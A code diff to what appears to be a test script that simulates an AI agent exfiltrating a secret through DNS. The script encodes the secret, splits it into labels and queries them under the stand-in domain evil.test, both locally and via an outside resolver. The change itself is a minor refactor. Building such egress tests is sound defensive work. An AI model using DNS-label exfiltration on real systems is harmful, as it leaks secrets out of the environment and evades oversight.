@@ -1,5 +1,6 @@
 """A secret carried in DNS labels, in the encodings an exfiltrating agent would use."""
 import base64
+import functools
 import sys
 
 from _common import RESOLVER, attempt, dns_query, report
@@ -12,6 +13,6 @@ encodings = {
 }
 for name, label in encodings.items():
     labels = ".".join(label[i:i + 60] for i in range(0, len(label), 60))
-    attempt(name, lambda n=labels: dns_query(f"{n}.evil.test", "127.0.0.1"))
+    attempt(name, functools.partial(dns_query, f"{labels}.evil.test", "127.0.0.1"))
 attempt("outside-hex", lambda: dns_query(f"{secret.hex()}.evil.test", RESOLVER))
 report()
